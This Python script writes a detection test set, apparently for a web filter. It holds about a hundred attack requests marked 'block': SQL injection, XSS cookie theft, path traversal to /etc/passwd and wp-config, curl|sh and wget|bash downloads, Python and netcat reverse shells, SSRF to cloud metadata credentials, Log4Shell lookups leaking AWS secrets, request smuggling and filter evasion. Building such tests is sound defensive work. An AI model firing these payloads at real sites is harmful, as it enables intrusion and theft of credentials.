#!/usr/bin/python3
"""gen_attacks.py - writes ../attacks/*.jsonl (holdout20, written blind).

Attacks placed where attackers put them in the requests of a mixed hosting
provider's customer sites (contact forms, blogs, stores, APIs, webhooks)."""
import json, os

OUT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "attacks")
FAM = {}

def fam(name, entries):
    FAM[name] = entries

XHRJ = [["Content-Type", "application/json"]]

fam("sqli", [
    dict(target="/shop/product.php?id=77%27%20AND%20EXTRACTVALUE(1,CONCAT(0x5c,(SELECT%20version())))--%20-", note="error-based extractvalue in a small store's product id"),
    dict(method="POST", target="/contact/send", profile="form", form=[["name", "Tom"], ["email", "tom@example.org"], ["phone", "0'; WAITFOR DELAY '0:0:6'--"], ["message", "please call"]], note="MSSQL time delay in contact form phone"),
    dict(target="/wp-json/wp/v2/posts?orderby=date&order=desc,(SELECT%201%20FROM%20(SELECT%20SLEEP(5))x)", profile="xhr", note="sleep subquery in WP REST order param"),
    dict(method="POST", target="/api/v1/quotes/search", profile="api", json={"customer": "acme", "status": "open' OR '1'='1' -- "}, note="tautology in JSON API field"),
    dict(target="/odata/Orders?$filter=CustomerID%20eq%20%27ALFKI%27)%3BDROP%20TABLE%20Orders--", profile="xhr", note="stacked drop in OData filter"),
    dict(target="/index.php?option=com_content&view=article&id=12&catid=2%20AND%20(SELECT%202*(IF((SELECT%20*%20FROM%20(SELECT%20CONCAT(0x71,(SELECT%20user()),0x71,FLOOR(RAND(0)*2))x%20FROM%20INFORMATION_SCHEMA.PLUGINS%20GROUP%20BY%20x)a),8446744073709551610,8446744073709551610)))", note="Joomla double-query floor(rand) injection"),
    dict(target="/catalog/list?category=shoes&sort=price%20ASC,(CASE%20WHEN%20(ascii(substring((select%20password%20from%20admin_users%20limit%201),1,1))>64)%20THEN%201%20ELSE%201/0%20END)", note="blind boolean via order by case"),
    dict(method="POST", target="/rest/V1/guest-carts/abc/items", profile="api", json={"cartItem": {"sku": "TSHIRT-M\" UNION SELECT group_concat(email,0x3a,password_hash) FROM customer_entity#", "qty": 1}}, note="union in Magento-like sku"),
    dict(target="/blog/?s=test&cat=1%29%20or%20pg_sleep%285%29%20is%20null--", profile="firefox", note="postgres pg_sleep in blog cat"),
    dict(target="/api/products?filter[name][like]=%25%27%29%20UNION%20ALL%20SELECT%20table_name,null,null%20FROM%20information_schema.columns%23", profile="xhr", note="union in JSON:API filter"),
])

fam("xss", [
    dict(method="POST", target="/wp-comments-post.php", profile="form", form=[["comment", "Great post!<script src=//x55.cc/k.js></script>"], ["author", "Ann"], ["email", "ann@example.com"], ["url", ""], ["comment_post_ID", "412"], ["comment_parent", "0"]], note="script src in blog comment"),
    dict(target="/search?q=%22%3E%3Csvg%2Fonload%3Dalert%28document.domain%29%3E", note="svg onload in site search"),
    dict(method="POST", target="/contact", profile="form", form=[["name", "<img src=x onerror=fetch('//evil.example/c?'+document.cookie)>"], ["email", "a@b.co"], ["message", "hi"]], note="img onerror cookie theft in contact name"),
    dict(target="/product/42?ref=javascript:alert(1)//&utm_source=x", note="javascript: uri in ref param"),
    dict(method="POST", target="/api/chat/messages", profile="xhr", json={"conversation_id": "c_81f2", "body": "<iframe srcdoc=\"<script>parent.location='https://phish.example/'</script>\"></iframe>"}, note="iframe srcdoc in chat widget message"),
    dict(target="/?lang=en%22%20autofocus%20onfocus%3D%22eval%28atob%28%27YWxlcnQoMSk%3D%27%29%29", note="attribute breakout autofocus onfocus"),
    dict(method="POST", target="/reviews/create", profile="form", form=[["rating", "5"], ["title", "Nice"], ["body", "<details open ontoggle=alert`1`>"]], note="details ontoggle in store review"),
    dict(target="/booking/confirm?name=%3Cbody%20onpageshow%3Dalert(1)%3E&slot=2026-12-10T10:00", note="body onpageshow in booking widget confirm"),
    dict(method="POST", target="/ghost/api/admin/members/", profile="xhr", json={"members": [{"email": "x@y.zz", "name": "<a href=\"jav&#x61;script:alert(1)\">click</a>"}]}, note="entity-obfuscated javascript href in member name"),
    dict(target="/track?page=%3Cscript%3Eeval(String.fromCharCode(97,108,101,114,116,40,49,41))%3C/script%3E", profile="chrome_img", note="fromCharCode in analytics beacon"),
])

fam("lfi", [
    dict(target="/index.php?page=../../../../etc/passwd", note="classic passwd traversal"),
    dict(target="/download.php?file=..%2F..%2F..%2Fwp-config.php", note="wp-config via encoded traversal"),
    dict(target="/cdn-cgi/image/width=800,quality=75/../../../../etc/shadow", note="traversal after image resize options"),
    dict(target="/invoice/pdf?template=php://filter/convert.base64-encode/resource=../config/database.php", note="php filter wrapper in PDF template param"),
    dict(target="/static/..%5c..%5c..%5cwindows%5cwin.ini", note="backslash traversal to win.ini"),
    dict(target="/view?include=/proc/self/environ", note="proc environ read"),
    dict(target="/lang.php?locale=....//....//....//etc/hosts", note="doubled dot-dot-slash filter bypass"),
    dict(method="POST", target="/admin/theme/preview", profile="form", form=[["theme", "../../../../../../var/log/apache2/access.log"], ["preview", "1"]], note="log file include in theme preview"),
    dict(target="/assets/file?path=/WEB-INF/web.xml", note="WEB-INF descriptor in .do era app"),
    dict(target="/feeds/import?url=file:///etc/passwd", profile="xhr", note="file scheme in feed import"),
])

fam("rce", [
    dict(method="POST", target="/tools/ping", profile="form", form=[["host", "8.8.8.8; cat /etc/passwd"]], note="shell chaining in ping tool"),
    dict(target="/cgi-bin/status?ip=127.0.0.1%7Cid", note="pipe id in cgi"),
    dict(method="POST", target="/api/convert", profile="api", json={"input": "doc.pdf", "output": "out.png`curl -s http://203.0.113.9/x.sh|sh`"}, note="backtick download and run in filename"),
    dict(target="/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=whoami", note="ThinkPHP invokefunction"),
    dict(method="POST", target="/upload/thumb", profile="form", form=[["size", "200x200$(wget -qO- 198.51.100.7/b|bash)"]], note="command substitution in resize size"),
    dict(method="POST", target="/struts/login.do", profile="form", headers=[["Content-Type", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.start())}"]], body="user=a&pass=b", note="OGNL in Content-Type on .do form"),
    dict(target="/debug?cmd=python3%20-c%20%27import%20socket,os,pty;s=socket.socket();s.connect((%22203.0.113.5%22,4444));[os.dup2(s.fileno(),f)%20for%20f%20in%20(0,1,2)];pty.spawn(%22/bin/sh%22)%27", note="python reverse shell"),
    dict(method="POST", target="/api/templates/render", profile="xhr", json={"template": "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"}, note="Jinja SSTI to os.popen"),
    dict(method="POST", target="/wp-admin/admin-ajax.php", profile="form", form=[["action", "run_backup"], ["dir", "/tmp && nc -e /bin/sh 192.0.2.10 9001"]], note="netcat shell in plugin ajax"),
    dict(target="/search?q=%24%7B%23context%5B%22com.opensymphony.xwork2.dispatcher.HttpServletResponse%22%5D.getWriter().println(%40java.lang.Runtime%40getRuntime().exec(%22id%22))%7D", note="OGNL Runtime exec in query"),
])

fam("ssrf", [
    dict(target="/cdn-cgi/image/width=400/http://169.254.169.254/latest/meta-data/iam/security-credentials/", note="metadata via image proxy"),
    dict(method="POST", target="/api/webhooks/test", profile="xhr", json={"url": "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token", "headers": {"Metadata-Flavor": "Google"}}, note="GCP metadata token via webhook tester"),
    dict(target="/proxy?url=http://127.0.0.1:6379/%0D%0ACONFIG%20SET%20dir%20/var/www%0D%0A", note="redis CRLF via loopback"),
    dict(target="/fetch-preview?link=gopher://localhost:11211/_stats%0d%0a", profile="xhr", note="gopher to memcached"),
    dict(method="POST", target="/feeds/subscribe", profile="form", form=[["feed_url", "http://[::ffff:a9fe:a9fe]/latest/user-data"]], note="IPv6-mapped metadata address in feed url"),
    dict(target="/imgproxy/insecure/rs:fit:300:300/plain/http://0x7f000001:8080/admin", note="hex loopback through imgproxy"),
    dict(method="POST", target="/api/import/opml", profile="api", json={"source": "http://metadata.google.internal/computeMetadata/v1/?recursive=true"}, note="GCP metadata hostname"),
    dict(target="/sitemap/ping?sitemap=http://2130706433:2375/containers/json", note="decimal loopback docker api"),
    dict(target="/avatar?src=dict://127.0.0.1:22/info", note="dict scheme to ssh port"),
    dict(method="POST", target="/integrations/zapier/hook", profile="api", json={"callback": "http://100.100.100.200/latest/meta-data/ram/security-credentials/"}, note="Alibaba metadata in callback"),
])

fam("java", [
    dict(target="/", headers=[["User-Agent", "${jndi:ldap://203.0.113.44:1389/Exploit}"]], note="jndi in UA"),
    dict(target="/api/orders", profile="api", headers=[["X-Api-Version", "${jndi:rmi://198.51.100.3/a}"]], note="jndi rmi in custom header"),
    dict(target="/login", headers=[["Referer", "${${lower:j}ndi:${lower:l}dap://x.oast.example/z}"]], note="lower lookup obfuscation in Referer"),
    dict(method="POST", target="/contact/send", profile="form", form=[["name", "${jndi:dns://d.attacker.example/q}"], ["message", "hi"]], note="jndi dns in form field"),
    dict(target="/", headers=[["X-Forwarded-For", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://192.0.2.77/o}"]], note="default-value split in XFF"),
    dict(target="/search?q=%24%7Bjndi%3Aldaps%3A%2F%2Fevil.example%3A636%2Fa%7D", note="url-encoded jndi ldaps in query"),
    dict(target="/", headers=[["Cookie", "JSESSIONID=ABC; lang=${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.exfil.example/x}"]], note="nested env lookup in cookie"),
    dict(target="/spring/api/greeting", profile="xhr", headers=[["Accept-Language", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.8/b}"]], note="env default obfuscation in Accept-Language"),
    dict(method="POST", target="/spring/api/users", profile="api", json={"class.module.classLoader.resources.context.parent.pipeline.first.pattern": "%{c2}i if(\"j\".equals(request.getParameter(\"pwd\")))"}, note="Spring4Shell classLoader property"),
    dict(target="/faces/home.xhtml", headers=[["X-Request-Id", "${jNdI:LdAp://198.51.100.99:389/upper}"]], note="mixed case jndi in request id"),
])

fam("scanner", [
    dict(target="/", profile="none", headers=[["User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"], ["Accept", "*/*"]], note="sqlmap UA"),
    dict(target="/wp-login.php", profile="none", headers=[["User-Agent", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"]], note="WPScan UA"),
    dict(target="/.env", profile="none", headers=[["User-Agent", "Mozilla/5.0 zgrab/0.x"]], note=".env probe by zgrab"),
    dict(target="/nice%20ports%2C/Tri%6Eity.txt%2ebak", profile="none", note="nmap service probe path"),
    dict(target="/index.php", profile="none", headers=[["User-Agent", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)"]], note="Nikto UA"),
    dict(target="/.git/config", profile="none", headers=[["User-Agent", "python-requests/2.31.0"]], note=".git probe"),
    dict(target="/phpmyadmin/index.php", profile="none", headers=[["User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))"]], note="nuclei UA on phpmyadmin"),
    dict(target="/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", profile="none", headers=[["User-Agent", "Go-http-client/1.1"]], note="phpunit eval-stdin probe"),
    dict(target="/actuator/env", profile="none", headers=[["User-Agent", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]], note="masscan on actuator"),
    dict(target="/backup.sql.gz", profile="none", headers=[["User-Agent", "Mozilla/5.0 (compatible; DirBuster-1.0-RC1)"]], note="DirBuster backup probe"),
])

H = "Host: shop.example.com\r\n"
fam("protocol", [
    dict(raw="POST /api/cart HTTP/1.1\r\n" + H + "Content-Length: 6\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nG", note="CL.TE smuggling"),
    dict(raw="POST / HTTP/1.1\r\n" + H + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n", note="duplicated TE"),
    dict(raw="POST /contact HTTP/1.1\r\n" + H + "Content-Length: 13\r\nContent-Length: 40\r\nConnection: close\r\n\r\nname=x&msg=hi", note="conflicting Content-Length"),
    dict(raw="POST /wp-comments-post.php HTTP/1.1\r\n" + H + "Transfer-Encoding : chunked\r\nConnection: close\r\n\r\n0\r\n\r\n", note="space before colon in TE"),
    dict(raw="GET /index.html HTTP/1.1\r\n" + H + "X-Foo: bar\nInjected: 1\r\nConnection: close\r\n\r\n", note="bare LF inside header block"),
    dict(raw="POST /api/upload HTTP/1.1\r\n" + H + "Transfer-Encoding: xchunked\r\nConnection: close\r\n\r\n3\r\nabc\r\n0\r\n\r\n", note="unknown transfer coding"),
    dict(raw="GET / HTTP/1.1\r\n" + H + "Host: internal.admin.local\r\nConnection: close\r\n\r\n", note="duplicate Host"),
    dict(raw="POST /checkout HTTP/1.1\r\n" + H + "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\nfffffffffffffffff\r\nx\r\n0\r\n\r\n", note="overflowing chunk size"),
    dict(raw="GET /%0d%0aSet-Cookie:%20admin=1 HTTP/1.1\r\n" + H + "Connection: close\r\n\r\n", note="CRLF injection in path"),
    dict(raw="POST /api/graphql HTTP/1.1\r\n" + H + "Content-Length: -5\r\nConnection: close\r\n\r\n{}", note="negative Content-Length"),
])

fam("evasion", [
    dict(target="/products?id=1%2520UNION%2520SELECT%2520password%2520FROM%2520users", note="double-encoded union"),
    dict(target="/search?q=%u003cscript%u003ealert(1)%u003c/script%u003e", note="IIS %u encoding of script"),
    dict(target="/page?id=1/*!50000UnIoN*/+/*!50000SeLeCt*/+1,user(),3--+", note="MySQL versioned comments"),
    dict(target="/download?f=%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", note="overlong UTF-8 dots"),
    dict(method="POST", target="/api/profile", profile="xhr", json={"bio": "\u003cscript\u003ealert(document.cookie)\u003c/script\u003e", "_raw": "x"}, note="script tags as JSON unicode escapes"),
    dict(target="/run?c=c%27a%27t%20/e%22t%22c/pa%5C%5Csswd", note="quote-split cat /etc/passwd"),
    dict(target="/view?file=..%252f..%252f..%252fetc%252fpasswd", note="double-encoded traversal"),
    dict(method="POST", target="/contact", profile="form", form=[["msg", "<ScRiPt>\u0061lert(1)</sCrIpT>"]], note="mixed case script tag in form"),
    dict(target="/item?id=1%09oR%0b1%0c=%0d1", note="whitespace-substituted tautology"),
    dict(target="/tool?host=127.0.0.1%0a%24%7BIFS%7Dcat%24%7BIFS%7D/etc/passwd", note="newline and IFS command split"),
])

def main():
    os.makedirs(OUT, exist_ok=True)
    for name, es in FAM.items():
        with open(os.path.join(OUT, name + ".jsonl"), "w", encoding="utf-8") as f:
            for n, e in enumerate(es, 1):
                d = {"id": "h20-%s-%03d" % (name, n), "category": name, "expect": "block"}
                d.update(e)
                f.write(json.dumps(d, ensure_ascii=False) + "\n")

if __name__ == "__main__":
    main()
